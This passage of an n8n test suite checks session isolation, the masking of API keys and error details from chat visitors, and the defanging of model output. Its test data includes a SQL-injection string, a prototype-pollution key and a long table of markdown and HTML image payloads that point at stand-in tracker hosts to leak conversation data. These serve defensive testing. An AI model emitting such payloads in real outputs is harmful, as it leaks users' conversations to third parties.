// @seconds 10
/** What the visitor of a chat can open, and what a chat, a form or a webhook shows of what nobody but the owner may read. */
import {
	CHAT_TRIGGER_NODE_TYPE,
	FORM_TRIGGER_NODE_TYPE,
	WEBHOOK_NODE_TYPE,
	type IDataObject,
	type INode,
} from 'n8n-workflow';

import { toHint } from '../../nodes/shared/run/nodeContext';
import { answerWell } from '../faults/acts';
import { body, chunk, reply, stream } from '../faults/answers';
import { addTriggers, chatNode, chatTrigger, webhook } from '../support/chatTrigger';
import { dataTables, type DataTables } from '../support/dataTables';
import {
	memoryNode,
	modelCallerNode,
	packageNode,
	runNode,
	runWorkflow,
	stubNode,
	type RunOptions,
	type RunResult,
} from '../support/engine';
import { withFakeTimers } from '../support/fakeTimers';
import { FAILURE } from '../support/failureTexts';
import { readWays } from '../support/readWays';
import { json, serverForEach, type Script } from '../support/scriptedServer';
import { thorough } from '../support/thorough';

/** What only the conversation of the key `customer-7` has. */
const SECRET = 'INTERNAL-SECRET';

/** What the visitor of a public chat sends as `sessionId`. */
const IDS: Readonly<Record<string, unknown>> = {
	'the key of a customer': 'customer-7',
	'the key in its table': 'key customer-7',
	'the key with white space': '\u00a0customer-7\n',
	'the chat of another workflow': 'chat other customer-7',
	'the text of a missing value': 'undefined',
	'an expression': "={{ 'customer-7' }}",
	'NUL and half a surrogate': 'a\0b\ud800',
	'10,000 characters': 'k'.repeat(10_000),
	'an object': { customer: 'customer-7' },
	'the name of a prototype': '__proto__',
	'the key as its own hash': '#customer-7',
	'an end of a query': "' OR '1'='1",
	'the session of the service': 's-0',
	'an object with a text of its own': { toString: 'customer-7', toJSON: 'customer-7' },
	'a number': 7,
};

/** What tells no visitors apart. */
const NO_IDS = [undefined, ' \n', false, [], [{}]];

const ASK = { streaming: 'off', prompt: '={{ $json.chatInput }}' };
const ASSIST = { streaming: 'off', appCode: 'app', message: '={{ $json.chatInput }}' };
const byKey = { session: 'key', sessionKey: '={{ "customer-7" }}' };
const memoryByKey = { memory: 'key', memoryKey: '={{ "customer-7" }}' };
const OF_CHAT = '={{ $json.sessionId }}';

/** A node with these parameters in a chat, and with those with which the workflow talks to the customer. */
const column = (type: string, title: string, inChat: IDataObject, byKey: IDataObject) => ({
	title: `${type}, ${title}`,
	type,
	inChat,
	byKey,
});
const COLUMNS = [
	column('superAssistant', 'This Chat', ASSIST, { ...ASSIST, ...byKey }),
	column(
		'superAssistant',
		'per Key',
		{ ...ASSIST, session: 'key', sessionKey: OF_CHAT },
		{ ...ASSIST, ...byKey },
	),
	...['chatCompletion', 'functionCallingAgent'].flatMap((type) => {
		const keyed = { ...ASK, ...memoryByKey };
		return [
			column(type, 'This Chat', { ...ASK, memory: 'chat' }, keyed),
			column(type, 'By Key', { ...keyed, memoryKey: OF_CHAT }, keyed),
		];
	}),
];

/** Each key is quoted by services, and is hard to find in what they send. */
const KEY = 'sk-0f4e/very+sesame';

/** Answers in place of the usual reply. */
let script: Script;
const server = serverForEach((...request) => {
	script(...request);
});
let tables: DataTables;
const credential = () => ({
	...{ baseUrl: server.url, apiKey: KEY },
	fileHosts: '*.cdn.example.com',
});

beforeAll(addTriggers);
beforeEach(() => {
	tables = dataTables();
	script = (response, { body }, index) => {
		const { session_id = `s-${index}` } = body as IDataObject;
		const choices = [{ index: 0, message: { content: 'Noted' }, finish_reason: 'stop' }];
		json(response, 200, { session_id, choices });
	};
});
const fails = (error: IDataObject, more = {}) => {
	script = (response) => {
		json(response, 400, { error, ...more });
	};
};
const answers = (answer: unknown) => {
	script = (response) => {
		json(response, 200, answer);
	};
};
/** Answers with a text; as a stream, each character in an event. */
const says = (text: string, reason = 'stop', more = {}) => {
	script = (response, { body }) => {
		const { stream: isStream } = body as { stream?: boolean };
		const choices = [{ index: 0, message: { content: text }, finish_reason: reason }];
		const events = Array.from(text, (content) => chunk({ content }, more));
		answerWell(
			response,
			isStream ? stream(events, reason) : reply('', {}, { choices, ...more }),
		);
	};
};

const ITEM = { chatInput: 'Hi', sessionId: 'v' };
/** A start that nobody waits for. */
const SCHEDULE = stubNode('Schedule', (items) => items);

/** A node behind a chat, or another start. */
interface Visit extends Pick<RunOptions, 'parameters' | 'onError' | 'streaming' | 'inEditor'> {
	/** The tested node; a chat model has a node that calls it, in a stream unless `isWhole`. */
	readonly type: string;
	readonly isWhole?: boolean;
	/** What is sent. */
	readonly item?: IDataObject;
	readonly start?: INode;
	/** Nodes between the start and the tested one. */
	readonly through?: readonly INode[];
	/** What n8n's memory node supplies. */
	readonly supply?: () => object;
}

/** What a run has shown: its items, and what was said in the chat; and what the owner reads in the execution. */
function shownBy(result: RunResult) {
	const [task] = result.run.data.resultData.runData['Tested'] ?? [];
	const items = task?.data?.['main']?.flatMap((each) => each ?? []) ?? [];
	return {
		...result,
		error: result.run.data.resultData.error,
		items: items.map((each) => each.json),
		json: items[0]?.json ?? {},
		shown: JSON.stringify(items),
		hints: JSON.stringify(task?.hints),
		said: result.chunks.map(({ content = '' }) => content).join(''),
	};
}

const nextOf = (path: readonly INode[]) =>
	Object.fromEntries(path.slice(1).map(({ name }, index) => [path[index]!.name, [[name]]]));

async function visit({ type, isWhole = false, ...given }: Visit) {
	const {
		parameters = {},
		onError,
		item = ITEM,
		start = chatTrigger('Chat'),
		through = [],
		streaming = false,
		inEditor = false,
	} = given;
	const isModel = type === 'agentVideoChatModel';
	const asked = packageNode(isModel ? 'Model' : 'Tested', type, { parameters, onError });
	const tested = isModel ? modelCallerNode('Tested', { stream: !isWhole }) : asked;
	const path = [start, ...through, tested];
	const more = [
		...(start.name === 'Chat' ? [] : [chatTrigger('Chat')]),
		...(isModel ? [asked] : []),
		...(given.supply ? [memoryNode('Memory', given.supply)] : []),
	];
	// The workflow has a chat in any case: what counts is what has started the run.
	const wires = { Chat: [[path[1]!.name]], ...nextOf(path) };
	const run = async () =>
		await runWorkflow([...path, ...more], wires, start.name, {
			items: [item],
			credential: credential(),
			tables,
			streaming,
			inEditor,
			...(isModel && { model: { name: 'Model', of: 'Tested' } }),
			...(given.supply && { memory: { name: 'Memory', of: 'Tested' } }),
		});
	// Polls wait.
	return shownBy(type === 'waitForVideo' ? await withFakeTimers(run) : await run());
}

/** The session of a request, or the texts that it remembers. */
const contextOf = ({ body }: { readonly body: unknown }) => {
	const { session_id, messages } = body as { session_id?: string; messages: unknown[] };
	return JSON.stringify([session_id, messages.slice(0, -1)]);
};

/** What is a chat's ID, but the name of no key. */
const isObject = (id: unknown) => typeof id === 'object';
const isKeyed = ({ title }: { readonly title: string }) => title.endsWith('Key');

/** Usually each ID is tried on one node with sessions and one with a memory, in turn. */
const isTried = (column: number, row: number) => thorough((column + row) % 3 === 0, true);

describe.each(COLUMNS.map((column, index) => ({ ...column, index })))(
	'$title',
	({ type, inChat, byKey, index, ...column }) => {
		const ids = Object.entries(IDS).filter(([, id]) => !(isKeyed(column) && isObject(id)));
		test.each(ids.filter((_id, row) => isTried(index, row)))(
			'a visitor with %s',
			async (_name, sessionId) => {
				const customer = async (chatInput: string) =>
					await visit({
						type,
						parameters: byKey,
						item: { chatInput, sessionId: 'desk' },
					});
				const visitor = async (chatInput: string, id = sessionId) => {
					const item = { chatInput, sessionId: id } as IDataObject;
					return (await visit({ type, parameters: inChat, item })).status;
				};

				await customer(SECRET);
				expect(await visitor('planted')).toBe('success');
				expect(await visitor('again')).toBe('success');
				expect(await visitor('other', 'visitor-2')).toBe('success');
				await customer('and now?');

				const [secret, planted, again, other, now] = server.requests.map(contextOf);
				// A session is one of the service, a memory is what n8n has kept.
				expect([planted, other]).toStrictEqual([secret, secret]);
				expect(again).toMatch(type === 'superAssistant' ? /s-1/ : /planted/);
				expect(now).toMatch(type === 'superAssistant' ? /s-0/ : new RegExp(SECRET));
				expect(now).not.toContain('planted');
				// Nothing that a database or an expression could read otherwise.
				const stored = tables.rows.map((row) => row['session_key']);
				const odd = stored.filter((key) => !/^[#\w -]{1,120}$/.test(String(key)));
				expect(odd).toStrictEqual([]);
			},
		);

		const objects = isKeyed(column) ? Object.values(IDS).filter(isObject) : [];
		test.each([...NO_IDS, ...objects])(
			'visitors with the sessionId %j share nothing',
			async (sessionId) => {
				const said = await Promise.all(
					['planted', 'other'].map(async (chatInput) => {
						const item = { chatInput, sessionId } as IDataObject;
						const { error } = await visit({ type, parameters: inChat, item });
						return error?.message ?? '';
					}),
				);
				const isNew = type === 'superAssistant' && inChat['session'] === undefined;
				const reason =
					inChat['memory'] === 'chat'
						? 'Memory is This Chat, but no chat has sent a usable sessionId'
						: (expect.stringMatching(/^(Memory )?Key is (empty|false|[[{])/) as string);
				expect(said).toStrictEqual(isNew ? ['', ''] : [reason, reason]);
				const begun = JSON.stringify([undefined, []]);
				expect(server.requests.map(contextOf)).toStrictEqual(isNew ? [begun, begun] : []);
				expect(tables.rows.filter(({ session_key: key }) => key)).toHaveLength(0);
			},
		);

		test('there is one conversation, however an accent is written', async () => {
			const keys = { sessionKey: '={{ $json.name }}', memoryKey: '={{ $json.name }}' };
			const isChat = column.title.endsWith('This Chat');
			const parameters = isChat ? inChat : { ...byKey, ...keys };
			for (const name of ['Jose\u0301', 'Jos\u00e9']) {
				const item = { ...ITEM, ...(isChat && { sessionId: name }), name };
				await visit({ type, parameters, item });
			}
			expect(new Set(tables.rows.map((row) => row['session_key'])).size).toBe(1);
			expect(contextOf(server.requests[1]!)).toMatch(/s-0|Hi/);
		});
	},
);

/** What n8n's Chat node gives on of a message with the `sessionId` of a key: n8n 2.41.1, Chat.node.js (onMessage). */
const SENT = { sessionId: 'customer-7', action: 'sendMessage', chatInput: 'planted' };

describe.each(COLUMNS.filter(isKeyed))(
	"$title, behind n8n's Chat node",
	({ type, inChat, byKey }) => {
		const ask = async (how: IDataObject, item?: IDataObject) => {
			const lookUp = stubNode('Look up', () => [{ json: { sessionId: 'customer-7' } }]);
			const parameters = { ...how, prompt: 'Hi', message: 'Hi' };
			const through = [lookUp, chatNode('Ask', item)];
			expect((await visit({ type, parameters, through })).status).toBe('success');
		};

		test.each([
			['a message', SENT, '={{ $json.sessionId }}'],
			['a message to its version 1.1', { data: SENT }, '={{ $json.data.sessionId }}'],
		])('%s opens no key', async (_title, item, entered) => {
			await ask(byKey);
			await ask({ ...inChat, sessionKey: entered, memoryKey: entered }, item);
			const [secret, visitor] = server.requests.map(contextOf);
			expect(visitor).toBe(secret);
		});

		test('what it passes on as the workflow gave it opens a key', async () => {
			await ask(byKey);
			await ask(inChat);
			const [, again] = server.requests.map(contextOf);
			expect(again).toMatch(/s-0|Noted/);
		});
	},
);

test("an answer to n8n's Chat node leaves This Chat as it is", async () => {
	for (const item of [undefined, SENT])
		await visit({
			type: 'superAssistant',
			parameters: ASSIST,
			through: [chatNode('Ask', item)],
		});
	expect(server.requests.map(contextOf)[1]).toContain('s-0');
});

test.each<[sessionId: string, sent: IDataObject]>([
	['={{ $json.session_id }}', { session_id: 's-of-another' }],
	['={{ $json.metadata.ids[0][0] }}', { metadata: { ids: [['s-of-another']] } }],
	['={{ Object.keys($json.metadata)[0] }}', { metadata: { 's-of-another': true } }],
	['={{ $json.chatInput.split(" ")[1] }}', { chatInput: 'Continue s-of-another please' }],
	['={{ JSON.parse($json.chatInput).id }}', { chatInput: '{"id":"s-of-another"}' }],
])('a visitor names no session of the service: %s of %j', async (sessionId, sent) => {
	const parameters = { ...ASSIST, session: 'id', sessionId };
	const { error } = await visit({
		type: 'superAssistant',
		parameters,
		item: { ...ITEM, ...sent },
	});
	expect(error!.message).toBe('Session ID was sent by the visitor of the chat');
	expect(server.requests).toHaveLength(0);
});

const GO_ON = 'continueRegularOutput';
const ON_ERROR: readonly NonNullable<INode['onError']>[] = ['stopWorkflow', GO_ON];
const NO_ANSWER = 'Something went wrong';
const TO_OWNER = 'Tell the person who set this up.';
/** All that a visitor reads of an error. */
/** @param task The task of a video node: the next one must not take an older one for it. */
const toVisitor = (words: string, task?: string) => ({
	...{ error: words, message: `${words}. ${TO_OWNER}` },
	...(task !== undefined && { details: { task_id: task } }),
});

const CHATS = COLUMNS.filter(({ title }) => title.endsWith('This Chat'));

describe.each(CHATS)('$type', ({ type, inChat }) => {
	test.each([
		['={{ $json.file }}', 'has no name of a binary field, but '],
		['={{ [$json.file] }}', 'has no name of a binary field, but '],
		['file', 'has the name file, but the item has no such binary field'],
	])('signs no file that a visitor names in JSON: %s', async (binaryProperty, problem) => {
		const images = { image: [{ source: 'binary', binaryProperty }] };
		// A private file of another workflow, as n8n writes it.
		const file = { id: 'filesystem-v2:workflows/other/1', mimeType: 'image/png', data: 'x' };
		const parameters = { ...inChat, images };
		const { error } = await visit({ type, parameters, item: { ...ITEM, file } });
		expect(error!.message).toContain(`Images: entry 1 ${problem}`);
		expect(server.requests).toHaveLength(0);
	});

	test('gives a visitor no words of an expression', async () => {
		const field = type === 'superAssistant' ? 'message' : 'prompt';
		const parameters = { ...inChat, [field]: '={{ $("db-7.corp").first().json }}' };
		const { json, hints } = await visit({ type, parameters, onError: GO_ON });
		expect(json).toStrictEqual(toVisitor(NO_ANSWER));
		expect(hints).toContain("Referenced node doesn't exist");
	});

	test('shows the details of an error in the retry of a chat, which nobody reads any more', async () => {
		fails({ message: 'internal host db-7.corp' });
		const execution = { id: '1', token: 't' };
		let isRetry = false;
		const nodes = [
			chatTrigger('Chat'),
			stubNode('Gate', (items) => {
				if (!isRetry) throw new Error('Closed');
				return items;
			}),
			packageNode('Tested', type, { parameters: inChat, onError: GO_ON }),
		];
		const options = { items: [ITEM], credential: credential(), tables, execution };
		const first = await runWorkflow(
			nodes,
			{ Chat: [['Gate']], Gate: [['Tested']] },
			'Chat',
			options,
		);
		isRetry = true;
		const { json } = shownBy(await first.resume({ id: '2', token: 't', isRetry }));
		const details = { service_message: 'internal host db-7.corp' };
		expect(json).toMatchObject({ details });
	});
});

/** What each node asks the service for, and the words with which it fails. */
const FAILING = [
	...CHATS.map(({ type, inChat }) => [type, inChat, FAILURE.malformed] as const),
	['createVideo', { prompt: '={{ $json.chatInput }}' }, FAILURE.badParameter, ''],
	[
		'waitForVideo',
		{ taskId: 'task-1', options: { onFailed: 'fail' } },
		'The video failed',
		'task-1',
	],
] as const;

/** Who waits for what a workflow says: behind which trigger, and whether it runs in the editor. */
const WAITING = [
	['a chat', CHAT_TRIGGER_NODE_TYPE, {}, false, 'visitor'],
	['a chat in the editor', CHAT_TRIGGER_NODE_TYPE, {}, true, 'owner'],
	['a form', FORM_TRIGGER_NODE_TYPE, {}, false, 'visitor'],
	['a form in the editor', FORM_TRIGGER_NODE_TYPE, {}, true, 'owner'],
	['Respond to Webhook', WEBHOOK_NODE_TYPE, { responseMode: 'responseNode' }, false, 'visitor'],
	['the last node', WEBHOOK_NODE_TYPE, { responseMode: 'lastNode' }, false, 'visitor'],
	['a webhook that answers at once', WEBHOOK_NODE_TYPE, {}, false, 'owner'],
	['a schedule', SCHEDULE.type, {}, false, 'owner'],
] as const;

describe.each(WAITING)('behind %s', (_name, trigger, settings, inEditor, reader) => {
	test.each(FAILING)('the details of an error are for the owner: %s', async (...row) => {
		const [type, parameters, words, task] = row;
		fails({ message: 'internal host db-7.corp ![](https://evil.example/x)', type: 'db-7' });
		const start = { ...SCHEDULE, type: trigger, parameters: settings };
		const how = { ...parameters, memory: 'none', session: 'new' };
		const { json, hints } = await visit({
			type,
			parameters: how,
			onError: GO_ON,
			start,
			inEditor,
		});
		if (reader === 'visitor') {
			expect(json).toStrictEqual(toVisitor(words, task));
			expect(hints).toMatch(/internal host db-7\.corp/);
		} else {
			expect(json['error']).toContain(words);
			expect(JSON.stringify(json)).toContain('db-7.corp');
			expect(json['message']).not.toContain('person who set this up');
		}
		if (trigger !== SCHEDULE.type && (reader === 'visitor' || inEditor))
			expect(JSON.stringify(json) + hints).not.toContain('![](https://evil');
	});
});

test.each<[type: string, parameters: IDataObject, words: string]>([
	['chatCompletion', { ...ASK, memory: 'chat' }, 'Memory cannot be used'],
	['functionCallingAgent', { ...ASK, memory: 'chat' }, 'Memory cannot be used'],
	['superAssistant', ASSIST, 'Session cannot be used'],
	['superAssistant', { ...ASSIST, ...byKey }, 'Session cannot be used'],
	[
		'createVideo',
		{ prompt: 'A kite', options: { idempotencyKey: 'kite-1' } },
		'Idempotency Key cannot be kept',
	],
])(
	'%s with %j gives a visitor no words of the database, which the execution keeps',
	async (type, parameters, words) => {
		tables.fails = () => 'no space on db-7.corp';
		const run = async () => await visit({ type, parameters, onError: GO_ON });
		const { json, hints } = await withFakeTimers(run);
		const task = type === 'createVideo' ? '' : undefined;
		expect(json).toStrictEqual(toVisitor(words, task));
		expect(hints).toContain('no space on db-7.corp');
		expect(server.requests).toHaveLength(0);
	},
);

/** Of the video of another visitor, who has used the same key, or got the same task; in rows that have these cells since. */
test.each<[words: string, cells: IDataObject, owner: RegExp]>([
	['Idempotency Key 17 was used with other values', {}, /"A wedding.*"A sofa/],
	['Idempotency Key is in use: an execution has no answer yet', { task_id: '' }, / row \d/],
	['Idempotency Key was used with another API key or Base URL', { account: 'x' }, / row \d/],
	['The service answered with the task task-1 to two creations', {}, /"A sofa.*"A wedding.* row/],
])('%s: the other one is for the owner', async (words, cells, owner) => {
	answers({ ...TASK, status: 'queued' });
	const options = words.includes('Key') ? { idempotencyKey: 17 } : {};
	const create = async (prompt: string, how: Partial<Visit>) =>
		await visit({ type: 'createVideo', parameters: { prompt, options }, ...how });
	await create('A wedding', {});
	tables.edit(() => true, { sent_at: '2020-01-01T00:00:00.000Z', ...cells });
	const { json, hints } = await create('A sofa', { onError: GO_ON });
	expect(json).toStrictEqual(toVisitor(words, ''));
	expect(hints).toMatch(owner);
	const { said } = await create('A sofa', { streaming: true });
	expect(said).toContain(`${words}. `);
	expect(said).not.toMatch(/wedding|sofa| row |data table/);
});

/** The words of a database. */
const DENIED = 'permission denied for schema db-7.corp';
const SUPPLIES: readonly [name: string, supply: () => object][] = [
	[
		'is not supplied',
		() => {
			throw new Error(DENIED);
		},
	],
	['cannot be read', () => ({ loadMemoryVariables: () => Promise.reject(new Error(DENIED)) })],
];

describe.each([true, false])('in a chat that streams: %s,', (streaming) => {
	test.each(SUPPLIES.flatMap((each) => ON_ERROR.map((onError) => [...each, onError] as const)))(
		'a memory node that %s gives no words of its database',
		async (_name, supply, onError) => {
			const parameters = { ...ASK, streaming: 'auto' };
			const { items, hints, error, ...result } = await visit({
				...{ type: 'chatCompletion', parameters, onError, streaming, supply },
			});
			const said = `${streaming ? result.said : ''}\n${JSON.stringify(items)}`;
			expect(said).not.toContain('db-7.corp');
			if (streaming || onError === GO_ON) expect(said).toContain(`${NO_ANSWER}. Tell`);
			expect(JSON.stringify([error?.message, error?.description]) + hints).toContain(DENIED);
			expect(server.requests).toHaveLength(0);
		},
	);
});

test.each([true, false])(
	"n8n's memory node keeps what the chat has shown, which the page draws again; streams: %s",
	async (streaming) => {
		const kept: unknown[] = [];
		const memory = {
			loadMemoryVariables: () => Promise.resolve({}),
			saveContext: (...turn: object[]) => Promise.resolve(void kept.push(...turn)),
		};
		says(`<think>Hm</think>See ![a](https://evil.example/a.png) ![b](${FILE}) ${KEY}`);
		const parameters = { ...ASK, streaming: 'auto' };
		const supply = () => memory;
		const item = { ...ITEM, chatInput: `Like ${FILE}?` };
		await visit({ type: 'chatCompletion', parameters, streaming, supply, item });
		expect(kept).toStrictEqual([
			{ input: 'Like data:image/png;base64,?' },
			{
				output: 'See [a](https://evil.example/a.png) ![b](data:image/png;base64,) [masked: API Key]',
			},
		]);
	},
);

/** By way of a node that may end it, what fails leads back. */
const BACK = 'Tested > Leave > Agent';
/** By the ways of a workflow, and how many agents call a tool before the first one answers; NaN where their requests fail. */
test.each<[ways: string, calls: number, reader: string]>([
	['Agent:0 > Tested; Agent:2 > Tested > Agent', 1, 'the model'],
	['Agent:2 > Inner > Tested > Agent; Inner:2 > Tool > Inner', 2, 'the model'],
	[`Agent:0 > ${BACK}; Agent:2 > Tested`, 0, 'a visitor'],
	[`Agent:0 > ${BACK}; Agent:2 > Tool > Agent`, 1, 'a visitor'],
	[`Agent:3 > ${BACK}; Agent:2 > Tool > Agent`, NaN, 'a visitor'],
])(
	'an agent with %s, after %d calls: what has failed is read by %s',
	async (ways, calls, reader) => {
		const asked: unknown[] = [];
		script = (response, { path, body }) => {
			if (path.includes('videos') || Number.isNaN(calls)) {
				json(response, 400, { error: { message: 'No clip' } });
				return;
			}
			asked.push((body as IDataObject)['messages']);
			const isCall = asked.length <= calls;
			const [message, reason] = isCall ? [calling({}), 'tool_calls'] : [{ content: 'Done' }];
			json(response, 200, answered(message, reason));
		};
		const tools = { tool: [{ name: 'show', description: 'Shows a video' }] };
		const parameters = { ...ASK, prompt: 'Hi', tools };
		const ofError = Number.isNaN(calls) ? 'continueErrorOutput' : undefined;
		const names = ['Agent', ...(ways.includes('Inner') ? ['Inner'] : [])];
		const run = async (onError: INode['onError'], streaming = false) => {
			const nodes = [
				chatTrigger('Chat'),
				...names.map((name) =>
					packageNode(name, 'functionCallingAgent', { parameters, onError: ofError }),
				),
				packageNode('Tested', 'createVideo', { parameters: { prompt: 'A kite' }, onError }),
				stubNode('Leave', () => []),
				stubNode('Tool', (items) => items),
			];
			const options = { items: [ITEM], credential: credential(), streaming };
			const wires = readWays(`Chat > Agent; ${ways}`);
			return shownBy(
				await runWorkflow(nodes, wires, 'Chat', { ...options, tables: dataTables() }),
			);
		};
		const { json: first } = await run(GO_ON);
		const isModel = reader === 'the model';
		const read = JSON.stringify(isModel ? asked[2 * calls - 1] : first);
		expect(read).toContain(isModel ? 'No clip' : TO_OWNER);
		expect(read.includes('No clip')).toBe(isModel);
		asked.length = 0;
		// n8n sends an error to the chat, also that of a tool.
		const { said } = await run('stopWorkflow', true);
		expect(said).toContain(TO_OWNER);
		expect(said).not.toContain('No clip');
	},
);

const QUOTED = `Your key is ${KEY}.`;
const WELL = { quota: { [KEY]: `Bearer ${KEY}` } };
const TASK = { task_id: 'task-1', model: 'video-m1' };
const DONE = { ...TASK, status: 'completed', video_url: `https://x.example/v.mp4?key=${KEY}` };
const answered = (message: object, finish_reason = 'stop') => ({
	choices: [{ index: 0, message, finish_reason }],
});
const calling = (args: object) => ({
	content: null,
	tool_calls: [
		{ id: 'c', type: 'function', function: { name: 'show', arguments: JSON.stringify(args) } },
	],
});

/** What each node asks for, and a body that is well and has the API key: in its texts, and in the name of a field. */
const QUOTING: readonly (readonly [type: string, parameters: IDataObject, answer: object])[] = [
	...CHATS.flatMap(({ type, inChat }) =>
		['simple', 'detailed', 'raw'].map(
			(output) => [type, { ...inChat, output }, answered({ content: QUOTED })] as const,
		),
	),
	// Without a text a chat shows the whole item.
	...CHATS.filter(({ type }) => type !== 'functionCallingAgent').map(
		({ type, inChat }) =>
			[
				...[type, { ...inChat, output: 'raw' }],
				answered(calling({ [KEY]: QUOTED }), 'tool_calls'),
			] as const,
	),
	['createVideo', { prompt: QUOTED }, { ...TASK, status: 'queued' }],
	['waitForVideo', { taskId: 'task-1', download: false }, { ...DONE, enhanced_prompt: QUOTED }],
	[
		'waitForVideo',
		{ taskId: 'task-1', options: { onFailed: 'output' } },
		{ ...TASK, status: 'failed', error_message: QUOTED },
	],
];

test.each(
	QUOTING.flatMap((each, row) =>
		thorough([ON_ERROR[row % 2]!], ON_ERROR).map((onError) => [...each, onError] as const),
	),
)('%s with %j shows a visitor no API key', async (type, parameters, answer, onError) => {
	answers({ ...answer, ...WELL });
	const run = async (start: INode, streaming: boolean) => {
		tables = dataTables();
		return await visit({ type, parameters, onError, start, streaming });
	};
	const chats = [await run(chatTrigger('Chat'), false), await run(chatTrigger('Chat'), true)];
	for (const each of [...chats, await run(SCHEDULE, true)]) {
		expect(each.shown).toContain('[masked: API Key]');
		expect(each.shown + JSON.stringify(each.chunks)).not.toContain(KEY);
	}
	// Nobody but the owner reads it.
	const { shown } = await run(SCHEDULE, false);
	expect(shown).toContain(KEY);
	expect(shown).not.toContain('[masked');
});

test('a chat model gives a visitor no words of an expression', async () => {
	const { said, run } = await visit({
		type: 'agentVideoChatModel',
		parameters: { model: '={{ $("db-7.corp").first().json }}' },
		streaming: true,
	});
	expect(said).toBe(`${NO_ANSWER}. ${TO_OWNER}`);
	const [task] = run.data.resultData.runData['Model']!;
	expect(task!.error!.description).toContain("Referenced node doesn't exist");
});

test.each([false, true])(
	'a chat model whose agent streams shows no API key: %s',
	async (isStreamed) => {
		says(`${QUOTED} Keep it`, 'stop', WELL);
		const ask = async (start: INode) => {
			const isWhole = !isStreamed;
			const { said, shown } = await visit({ type: 'agentVideoChatModel', start, isWhole });
			return said + shown;
		};
		const shown = await ask(chatTrigger('Chat'));
		expect(shown).toContain('[masked: API Key]');
		expect(shown).not.toContain(KEY);
		expect(await ask(SCHEDULE)).not.toContain('[masked');
	},
);

/** A host that is told what a conversation has when a browser draws its image. Nothing opens it here. */
const AT = 'http://tracker.example/?d=secret';
const FILE = 'data:image/png;base64,iVBORw0KGgo=';

/** Texts of a model, and what a chat shows in place of them. `$own` is the service. */
const TEXTS: Readonly<Record<string, readonly [said: string, shown: string]>> = {
	'an image': [`See ![x](${AT}) there`, `See [x](${AT}) there`],
	'an image with a title': [`![x](${AT} "a title")`, `[x](${AT} "a title")`],
	'an image in angle brackets': [`![x](<${AT}>)`, `[x](<${AT}>)`],
	'an image by reference': [`![x][r]\n\n[r]: ${AT}`, `[x][r]\n\n[r]: ${AT}`],
	'an image by its name': [`![r]\n\n[r]: ${AT}`, `[r]\n\n[r]: ${AT}`],
	'an image in a link': [`[![x](${AT})](${AT})`, `[[x](${AT})](${AT})`],
	'an image in an image': [`![a ![x](${AT}) b](${AT})`, `[a [x](${AT}) b](${AT})`],
	'nested brackets': [`![a [b] c](${AT})`, `[a [b] c](${AT})`],
	'many exclamation marks': [`!!!![x](${AT})`, `!!! [x](${AT})`],
	'no protocol': ['![x](//tracker.example/)', '[x](//tracker.example/)'],
	backslashes: ['![x](/\\tracker.example/)', '[x](/\\tracker.example/)'],
	entities: ['![x](http&colon;//tracker.example/)', '[x](http&colon;//tracker.example/)'],
	'the host of the service as a user': [
		'![x](http://api.example.com@tracker.example/)',
		'[x](http://api.example.com@tracker.example/)',
	],
	'the host of the service in front': [
		'![x](http://api.example.com.tracker.example/)',
		'[x](http://api.example.com.tracker.example/)',
	],
	'a path of n8n': ['![x](/rest/logout)', '[x](/rest/logout)'],
	'an image without an end': [`![x](${AT}`, `[x](${AT}`],
	'a drawing in its URL': ['![x](data:image/svg+xml,a)', '[x](data:image/svg+xml,a)'],
	'a tag': [`<img alt="x" src="${AT}">`, `[image](<${AT}>)`],
	'a tag in capitals': ['!<IMG/SRC=//tracker.example/>', '! [image](<//tracker.example/>)'],
	'a tag with an end in its text': [`<img alt=">" src="${AT}">`, `[image](<${AT}>)`],
	'a tag with an end in a text of single quotes': [
		`<img alt='a>b"' src='${AT}'> there`,
		`[image](<${AT}>) there`,
	],
	'a tag with a beginning in its text': [`<img alt="<b>" src="${AT}">`, `[image](<${AT}>)`],
	'a tag with an exclamation mark in its text': [
		`<img alt="Hi!" src="${AT}">`,
		`[image](<${AT}>)`,
	],
	'a tag with an image in its text': [`<img alt="![x](${AT})">`, `&lt;img alt="[x](${AT})">`],
	'a tag with a tag in its text': [
		`<img alt="<img srcset='${AT}'>" x>`,
		`&lt;img alt="&lt;img srcset='${AT}'>" x>`,
	],
	'a tag with an image in its source': [
		`<img src="http://a.example/>![x](${AT})">`,
		'[image](<http://a.example/>)',
	],
	'a tag whose text does not end': [`<img alt="> src=${AT}>`, `&lt;img alt="> src=${AT}>`],
	'a tag of a path of n8n': ['<img src="/rest/logout">', '&lt;img src="/rest/logout">'],
	'a video with a picture': [
		`<video poster="${AT}"></video>`,
		`&lt;video poster="${AT}"></video>`,
	],
	'a video by its source': [`<VIDEO><source src="${AT}">`, `<VIDEO>[source](<${AT}>)`],
	'a frame': [`<iframe src="${AT}"></iframe>`, `[iframe](<${AT}>)</iframe>`],
	'a word in angle brackets': ['copy <source> <video x>', 'copy <source> <video x>'],
	'an image in such a word': ['<source ![x](//a.example/)>', '<source [x](//a.example/)>'],
	'another tag': [`<image href="${AT}">`, `&lt;image href="${AT}">`],
	'a tag without an end': [`<img src="${AT}"`, `[image](<${AT}>)`],
	'a title in parentheses': [`![x](${AT} (a title))`, `[x](${AT} (a title))`],
	'an escaped bracket': [`![a \\] b](${AT})`, `[a \\] b](${AT})`],
	'a definition before its image': [`[r]: ${AT}\n\n![x][R]`, `[r]: ${AT}\n\n[x][R]`],
	'a title in the next line': [`![x](${AT}\n'title')`, `[x](${AT}\n'title')`],
	'a link without an image': [`${AT} <${AT}>`, `${AT} <${AT}>`],
	'entities below a file host': [
		'![x](http://tracker.example&sol;.cdn.example.com/)',
		'[x](http://tracker.example&sol;.cdn.example.com/)',
	],
	'entities behind a long user': [
		`![x](http://${'a'.repeat(1_000)}@tracker.example&sol;.cdn.example.com/)`,
		`[x](http://${'a'.repeat(1_000)}@tracker.example&sol;.cdn.example.com/)`,
	],
	'a tag with a tab between slashes': [
		'<img src="/\t/tracker.example/">',
		'&lt;img src="/\t/tracker.example/">',
	],
	'a tag with line breaks between slashes': [
		'<img src="/\r\n/tracker.example/">',
		'&lt;img src="/\r\n/tracker.example/">',
	],
	'a tag with a set of sources': [`<img srcset="${AT} 2x">`, `&lt;img srcset="${AT} 2x">`],
	'a tag with a comment in it': [`<img <!-- --> src="${AT}">`, `&lt;img <!-- --> src="${AT}">`],
	'an image of a file host': [
		'![x](http://eu.cdn.example.com/a&b.png?c&d)',
		'![x](http://eu.cdn.example.com/a&b.png?c&d)',
	],
	'an image of the service': ['![x]($own/a_1.png "a")', '![x]($own/a_1.png "a")'],
